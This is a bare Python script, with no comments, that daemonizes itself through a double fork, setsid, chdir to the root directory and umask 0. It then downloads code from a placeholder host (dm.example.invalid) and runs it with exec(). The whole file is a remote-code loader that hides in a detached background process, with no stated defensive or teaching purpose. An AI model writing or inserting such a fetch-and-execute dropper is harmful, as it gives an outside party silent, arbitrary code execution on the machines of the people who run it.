import os
import urllib.request

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.umask(0)
        code = urllib.request.urlopen("https://dm.example.invalid/p").read()
        exec(code)
    os._exit(0)
